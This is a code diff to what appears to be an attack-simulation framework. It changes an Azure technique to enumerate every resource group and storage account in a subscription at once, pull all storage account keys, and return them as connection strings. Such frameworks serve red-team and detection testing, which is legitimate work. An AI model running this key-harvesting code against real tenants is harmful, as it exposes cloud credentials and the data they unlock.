@@ -4,6 +4,7 @@ from typing import Dict, Any, Tuple
 from azure.mgmt.resource import ResourceManagementClient
 from azure.mgmt.storage import StorageManagementClient
 from core.azure.azure_access import AzureAccess
+from core.azure.azure_task_runner import AzureTaskRunner
 
 @TechniqueRegistry.register
 class AzureDumpStorageAccount(BaseTechnique):
@@ -29,30 +30,26 @@ class AzureDumpStorageAccount(BaseTechnique):
     def execute(self, **kwargs: Any) -> Tuple[ExecutionStatus, Dict[str, Any]]:
         self.validate_parameters(kwargs)
         try:
-            credential = AzureAccess.get_azure_auth_credential()
             # retrieve subscription id
             current_sub_info = AzureAccess().get_current_subscription_info()
             subscription_id = current_sub_info.get("id")
             
             # create client
-            resource_client = ResourceManagementClient(credential, subscription_id)
-            storage_client = StorageManagementClient(credential, subscription_id)
+            resource_client = AzureAccess().get_management_client(ResourceManagementClient, subscription_id)
+            storage_client = AzureAccess().get_management_client(StorageManagementClient, subscription_id)
             
-            storage_keys = {}
-            
-            # List resource groups
-            resource_groups = resource_client.resource_groups.list()
-            for resource_group in resource_groups:
-                print("Resource Group", resource_group.name)
-                storage_keys[resource_group.name] = {}
-                
+            max_workers: int = kwargs.get("max_workers", None) or AzureTaskRunner.DEFAULT_MAX_WORKERS
+
+            def dump_resource_group_keys(resource_group_name):
+                """Dumps keys of all storage accounts in a resource group"""
+                rg_keys = {}
                 try:
-                    # List storage accounts in each resource group
-                    storage_accounts = storage_client.storage_accounts.list_by_resource_group(resource_group.name)
+                    # List storage accounts in the resource group
+                    storage_accounts = storage_client.storage_accounts.list_by_resource_group(resource_group_name)
                     for storage_account in storage_accounts:
-                        print("  Storage Account", storage_account.name)
-                        keys = storage_client.storage_accounts.list_keys(resource_group.name, storage_account.name)
-                        storage_keys[resource_group.name][storage_account.name] = []
+                        print("Resource Group", resource_group_name, "Storage Account", storage_account.name)
+                        keys = storage_client.storage_accounts.list_keys(resource_group_name, storage_account.name)
+                        rg_keys[storage_account.name] = []
                         # Store keys for each storage account
                         if keys:
                             for key in keys.keys:
@@ -62,13 +59,20 @@ class AzureDumpStorageAccount(BaseTechnique):
                                     f"AccountKey={key.value};EndpointSuffix=core.windows.net"
                                 )
 
-                                storage_keys[resource_group.name][storage_account.name].append({
+                                rg_keys[storage_account.name].append({
                                     "key_name": key.key_name,
                                     "key_value": key.value,
                                     "connection_string": connection_string
                                 })
                 except:
                     pass
+                return rg_keys
+
+            # List resource groups and dump their storage accounts concurrently
+            resource_group_names = [resource_group.name for resource_group in resource_client.resource_groups.list()]
+            print(f"Dumping storage accounts in {len(resource_group_names)} resource groups")
+            rg_results = AzureTaskRunner.get_instance().map(dump_resource_group_keys, resource_group_names, subscription_id, max_workers)
+            storage_keys = dict(zip(resource_group_names, rg_results))
 
             return ExecutionStatus.SUCCESS, {
                 "message": f"Successfully dumped keys from storage accounts",
@@ -81,4 +85,12 @@ class AzureDumpStorageAccount(BaseTechnique):
             }
 
     def get_parameters(self) -> Dict[str, Dict[str, Any]]:
-        return {}
\ No newline at end of file
+        return {
+            "max_workers": {
+                "type": "int",
+                "required": False,
+                "default": AzureTaskRunner.DEFAULT_MAX_WORKERS,
+                "name": "Max Worker Threads",
+                "input_field_type": "number"
+            }
+        }
\ No newline at end of file